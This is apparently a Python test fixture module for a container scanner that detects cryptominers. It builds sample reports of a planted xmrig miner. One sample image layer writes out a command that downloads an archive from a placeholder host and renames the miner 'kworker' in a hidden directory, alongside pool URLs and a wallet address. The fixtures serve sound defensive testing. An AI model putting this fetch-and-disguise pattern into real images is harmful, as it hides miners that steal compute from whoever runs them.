"""Reports as the scanner makes them, for tests of everything that reads a Report."""

from dataclasses import replace

from scanner.model import (
    Aside,
    Confidence,
    ConfigLocation,
    Context,
    Evidence,
    FileLocation,
    Finding,
    Image,
    ImageConfig,
    LaunchLocation,
    Layer,
    Level,
    Notification,
    Report,
    Rule,
    Severity,
    SourceLine,
    State,
    Suppressed,
    Target,
    Tool,
    Traced,
    fingerprint,
)

REPOSITORY = "sandbox/agent"

BINARY = Rule(
    "miner/binary",
    "Cryptocurrency miner",
    Severity.CRITICAL,
    "An executable that speaks a mining pool's protocol and implements a mining algorithm.",
    "Whoever runs code in a sandbox of this image can mine at your cost. "
    "Delete the file in the instruction that brings it in, and build the image again.",
    ("https://attack.mitre.org/techniques/T1496/",),
    ("T1496.001", "T1036.005"),
)
CONFIG = Rule(
    "miner/config",
    "Miner configuration",
    Severity.HIGH,
    "A configuration file that names a mining pool and a wallet.",
    "The file tells a miner where to send what it earns. Remove it and find out who put it there.",
    (),
    ("T1496.001",),
)
LAUNCH = Rule(
    "miner/launch",
    "A miner is started",
    Severity.CRITICAL,
    "A script, crontab, unit or entrypoint that starts a miner.",
    "A sandbox that starts this mines at once. Remove the command.",
    (),
    ("T1496.001", "T1053.003"),
)
WALLET = Rule(
    "miner/wallet",
    "Wallet address",
    Severity.LOW,
    "A wallet address with a valid checksum.",
    "An address alone does no harm. Look at what the file does with it.",
)
PACKED = Rule(
    "miner/packed",
    "Packed executable",
    Severity.MEDIUM,
    "An executable packed by UPX or a lookalike.",
    "Packing hides what a program does. Replace it by the unpacked program of its vendor.",
    ("https://attack.mitre.org/techniques/T1027/002/",),
    ("T1027.002",),
)
SOURCE = Rule(
    "miner/source",
    "Miner source code",
    Severity.NOTE,
    "Source code of a miner.",
    "Source code does not run by itself. Delete it if the sandbox has a compiler and does not need it.",
)
RULES = (BINARY, CONFIG, LAUNCH, WALLET, PACKED, SOURCE)

LAYERS = (
    Layer(0, "sha256:" + "0a" * 32, "/bin/sh -c #(nop) ADD file:5d1c7c in / "),
    Layer(
        1, "sha256:" + "1b" * 32, "RUN /bin/sh -c apt-get update &&     apt-get install -y python3 nodejs # buildkit"
    ),
    Layer(
        2,
        "sha256:" + "2c" * 32,
        "RUN /bin/sh -c curl -fsSL https://example.com/setup.tar.gz | tar xz -C /opt/.cache && "
        "mv /opt/.cache/xm /opt/.cache/kworker && chmod 755 /opt/.cache/kworker && "
        "install -m 600 /dev/stdin /opt/.cache/config.json # buildkit",
    ),
    Layer(3, "sha256:" + "3d" * 32, "COPY app /app # buildkit"),
    Layer(4, "sha256:" + "4e" * 32, "RUN /bin/sh -c rm -rf /opt/.cache # buildkit"),
)

IMAGE = Image(
    id="sha256:" + "9f" * 32,
    platform="linux/amd64",
    created="2025-01-02T03:04:05Z",
    config=ImageConfig(
        user="agent",
        env=("PATH=/usr/local/bin:/usr/bin:/bin", "POOL=stratum+tcp://pool.example:3333"),
        entrypoint=("/app/start.sh",),
        cmd=("--help",),
        working_dir="/app",
        exposed_ports=("8080/tcp",),
        labels=(("org.opencontainers.image.title", "agent sandbox"), ("a", "b")),
    ),
    layers=LAYERS,
)

WALLET_ADDRESS = "4" + "A" * 94


def place(path: bytes, layer: int, *inner: bytes, line: int | None = None, offset: int | None = None) -> FileLocation:
    return FileLocation(path, LAYERS[layer], inner, line, offset)


def miner(path: bytes = b"opt/.cache/kworker", severity: Severity = Severity.CRITICAL) -> Finding:
    """An xmrig under the name of a kernel thread, deleted in layer 4."""
    return Finding(
        BINARY.id,
        severity,
        Confidence.HIGH,
        "xmrig 6.21.0 under the name of a kernel thread",
        (place(path, 2, offset=118_272),),
        (
            Evidence("miner", "protocol", path, offset=118_272, excerpt="stratum+ssl://"),
            Evidence("miner", "protocol", path, offset=118_301, excerpt='{"id":1,"jsonrpc":"2.0","method":"login"'),
            Evidence("miner", "protocol", path, offset=118_400, excerpt="mining.subscribe"),
            Evidence("miner", "protocol", path, offset=118_500, excerpt="keepalived"),
            Evidence("miner", "algorithm", path, offset=204_800, excerpt="rx/0", facts={"algorithm": "rx/0"}),
            Evidence("miner", "options", path, offset=99_000, excerpt="--donate-level"),
            Evidence("miner", "disguise", path, excerpt="kworker, a kernel thread's name, in a dot directory"),
        ),
        fingerprint(BINARY.id, REPOSITORY, path, "xmrig"),
        State.DELETED,
        4,
        {"family": "xmrig", "version": "6.21.0", "stripped": True},
    )


def config() -> Finding:
    path = b"opt/.cache/config.json"
    return Finding(
        CONFIG.id,
        Severity.HIGH,
        Confidence.HIGH,
        "xmrig configuration that sends its earnings to pool.example",
        (place(path, 2, line=12), place(b"opt/.cache/kworker", 2, offset=118_272)),
        (
            Evidence("miner", "pool", path, line=12, excerpt='"url": "stratum+tcp://pool.example:3333"'),
            Evidence("miner", "wallet", path, line=13, excerpt=WALLET_ADDRESS, facts={"coin": "monero"}),
            Evidence("miner", "options", b"etc/cron.d/cache", line=1, excerpt="--config /opt/.cache/config.json"),
        ),
        fingerprint(CONFIG.id, REPOSITORY, path),
        State.DELETED,
        4,
    )


def launch() -> Finding:
    return Finding(
        LAUNCH.id,
        Severity.HIGH,
        Confidence.MEDIUM,
        "The environment names a mining pool",
        (ConfigLocation("Env[1]"),),
        (Evidence("miner", "pool", b"", excerpt="POOL=stratum+tcp://pool.example:3333"),),
        fingerprint(LAUNCH.id, REPOSITORY, "Env", "POOL"),
    )


def packed() -> Finding:
    """In a wheel in a tar in the image, under a name that is not UTF-8."""
    return Finding(
        PACKED.id,
        Severity.MEDIUM,
        Confidence.MEDIUM,
        "UPX with tampered headers",
        (place(b"app/vendor.tar.gz", 3, b"w\xe9heels/fast.whl", b"fast/_core.so", offset=4_096),),
        (
            Evidence(
                "miner",
                "packing",
                b"app/vendor.tar.gz",
                (b"w\xe9heels/fast.whl", b"fast/_core.so"),
                4_096,
                None,
                "UPX!",
            ),
        ),
        fingerprint(PACKED.id, REPOSITORY, b"app/vendor.tar.gz", b"fast/_core.so"),
    )


def wallet() -> Finding:
    return Finding(
        WALLET.id,
        Severity.LOW,
        Confidence.LOW,
        "A Monero address with a valid checksum",
        (place(b"app/donate.txt", 3, line=3),),
        (Evidence("miner", "wallet", b"app/donate.txt", line=3, excerpt=WALLET_ADDRESS),),
        fingerprint(WALLET.id, REPOSITORY, b"app/donate.txt"),
    )


def source() -> Finding:
    return Finding(
        SOURCE.id,
        Severity.NOTE,
        Confidence.MEDIUM,
        "Source code of RandomX",
        (place(b"usr/src/randomx/vm.cpp", 1, line=40),),
        (Evidence("miner", "algorithm", b"usr/src/randomx/vm.cpp", line=40, excerpt="randomx_create_vm"),),
        fingerprint(SOURCE.id, REPOSITORY, b"usr/src/randomx/vm.cpp"),
    )


CLEAN = Report(
    tool=Tool("sandscan", "0.1.0", "sha256:" + "ab" * 32),
    target=Target("docker", f"{REPOSITORY}:latest", REPOSITORY, "sha256:" + "77" * 32),
    image=IMAGE,
    findings=(),
    means=(),
    notifications=(),
    rules=RULES,
    started="2025-01-02T03:04:05Z",
    statistics={"files": 4_312, "bytes": 182_000_000, "seconds": 1.234},
)
"""Nothing found, everything read."""

INFECTED = replace(CLEAN, findings=(miner(), config(), launch(), packed(), wallet(), source()))
"""One finding of each rule, everything read."""

UNREAD = (
    Notification(
        "content", Level.WARNING, "Archives nest deeper than 6 levels", b"app/deep.zip", (b"a.zip", b"b.zip"), 3
    ),
    Notification("detector", Level.ERROR, "The ELF parser crashed", b"usr/lib/broken.so", layer=1, count=3),
    Notification("source", Level.NOTE, "The engine keeps its layers in containerd: read through its API"),
)

INCOMPLETE = replace(INFECTED, notifications=UNREAD)
"""As INFECTED, and not everything could be read."""


STEPS = SourceLine(
    "docker/Dockerfile", 12, 15, Traced.HISTORY, why="The history's step 3 has the words of this instruction."
)
TRACED = replace(
    INFECTED,
    findings=(
        replace(miner(), sha256="5e" * 32, source=STEPS),
        replace(config(), source=replace(STEPS, certain=False, why="Lines 12 and 19 have the same words")),
        launch(),
        replace(packed(), source=SourceLine("docker/Dockerfile", 1, 1, Traced.BASE)),
        replace(
            wallet(),
            source=SourceLine("app/donate.txt", 3, 3, Traced.CONTENT, why="The file's bytes are those of the image."),
            evidence=(
                replace(
                    wallet().evidence[0],
                    context=Context(14, f"Thank you:\n{WALLET_ADDRESS}\nBye\n".encode()),
                ),
            ),
        ),
    ),
    suppressed=(
        Suppressed(source(), Aside.BASELINE, "known on 2025-01-01", "sandscan-baseline.json"),
        Suppressed(
            replace(wallet(), locations=(place(b"app/tests/wallet.txt", 3, line=1),), fingerprint="a1" * 32),
            Aside.IGNORED,
            "An address of our own tests",
            ".sandscan.yaml:4",
            "2027-06-30",
        ),
        Suppressed(
            replace(wallet(), locations=(place(b"app/tests/more.txt", 3, line=1),), fingerprint="a2" * 32),
            Aside.IGNORED,
            "Another one",
            ".sandscan.yaml:9",
            "2027-01-31",
        ),
    ),
)
"""As INFECTED, with lines of the repository for most; three findings are set aside."""


CHECKED = replace(
    CLEAN,
    target=Target("check", ".", "agent"),
    image=Image(None, "", None, ImageConfig(), ()),
    findings=(
        Finding(
            LAUNCH.id,
            Severity.CRITICAL,
            Confidence.HIGH,
            "The instruction starts a miner",
            (FileLocation(b"docker/Dockerfile", Layer(0, None), line=7),),
            (Evidence("miner", "command", b"docker/Dockerfile", line=7, excerpt="kworker --config x.json"),),
            fingerprint(LAUNCH.id, "agent", b"docker/Dockerfile"),
            source=SourceLine("docker/Dockerfile", 7, 9, Traced.GIVEN),
        ),
        Finding(
            WALLET.id,
            Severity.LOW,
            Confidence.LOW,
            "A Monero address with a valid checksum",
            (LaunchLocation("compose.yaml", 3, 5),),
            (Evidence("miner", "wallet", b"compose.yaml", line=3, excerpt=WALLET_ADDRESS),),
            fingerprint(WALLET.id, "agent", b"compose.yaml"),
        ),
    ),
    statistics={"files": 12, "bytes": 8_000, "seconds": 0.041},
)
"""Files of a repository, looked at without any image."""


def crowded(count: int) -> Report:
    """A report with so many findings, one in ten critical, the rest low, in the order in which a scan sorts them."""
    worst = tuple(miner(b"opt/%d/kworker" % i) for i in range(count // 10))
    rest = tuple(
        replace(
            wallet(),
            locations=(place(b"app/%d/donate.txt" % i, 3, line=3),),
            evidence=(Evidence("miner", "wallet", b"app/%d/donate.txt" % i, line=3, excerpt=WALLET_ADDRESS),),
            fingerprint=fingerprint(WALLET.id, REPOSITORY, b"app/%d/donate.txt" % i),
        )
        for i in range(count - len(worst))
    )
    return replace(CLEAN, findings=worst + rest)
